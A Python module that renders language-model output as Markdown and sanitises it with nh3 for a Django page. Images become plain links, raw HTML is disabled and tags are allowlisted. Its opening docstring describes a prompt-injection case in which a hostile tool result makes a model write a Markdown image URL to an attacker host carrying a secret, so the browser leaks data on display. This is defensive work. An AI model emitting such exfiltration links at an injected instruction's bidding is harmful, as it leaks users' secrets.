"""Model output to safe HTML: Markdown rendered with raw HTML disabled, then sanitised by nh3.

LLM output is untrusted, and so is every tool result it quotes. markdown-it never passes raw HTML
through (``html=False``), and nh3 (ammonia) keeps only the tags and attributes that Markdown
produces, with http/https/mailto links only, so ``<script>``, event handlers and ``javascript:``
URLs cannot reach the page.

Nothing in an answer may make the browser load anything: a model told by a hostile tool result to
write ``![x](http://attacker/leak.png?d=<secret>)`` would otherwise exfiltrate data the moment the
answer is shown. So images are rendered as links to the image (the engineer may follow one, the
browser never fetches it by itself), there is no ``img``, ``style``, ``svg``, ``iframe``, ``form``,
``base`` or ``link`` in the allowlist, and table alignment is a class rather than a style attribute
(the Content-Security-Policy forbids inline styles anyway).
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

import nh3
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

_ALIGN_CLASSES = {"align-left", "align-center", "align-right"}

_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "ol": {"start"},
}
_CLASSES = {"a": {"md-image"}, "th": _ALIGN_CLASSES, "td": _ALIGN_CLASSES}
_LINK_REL = "noopener noreferrer nofollow"


def _image_as_link(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """``![alt](src)`` becomes a link to ``src`` labelled with the alt text: shown, never fetched.

    nh3 afterwards drops the href unless it is http/https/mailto (the link text stays).
    """
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env) or str(token.attrGet("src") or "")
    src = escapeHtml(str(token.attrGet("src") or ""))
    return f'<a class="md-image" href="{src}">{escapeHtml(alt)}</a>'


def _alignment_as_class(state: Any) -> None:
    """Table cells carry ``class="align-x"`` instead of markdown-it's ``style="text-align:x"``."""
    for token in state.tokens:
        if token.type in {"th_open", "td_open"}:
            style = str(token.attrGet("style") or "")
            if style.startswith("text-align:"):
                token.attrs.pop("style", None)
                token.attrSet("class", "align-" + style.removeprefix("text-align:").strip())


_markdown = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
_markdown.add_render_rule("image", _image_as_link)
_markdown.core.ruler.push("alignment_as_class", _alignment_as_class)


def render_markdown(text: str) -> SafeString:
    """Render ``text`` (Markdown from the model) to sanitised HTML that is safe to insert as-is."""
    html = _markdown.render(text)
    clean = nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        allowed_classes=_CLASSES,
        url_schemes={"http", "https", "mailto"},
        link_rel=_LINK_REL,
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )
    return mark_safe(clean)  # noqa: S308  (sanitised by nh3 just above)
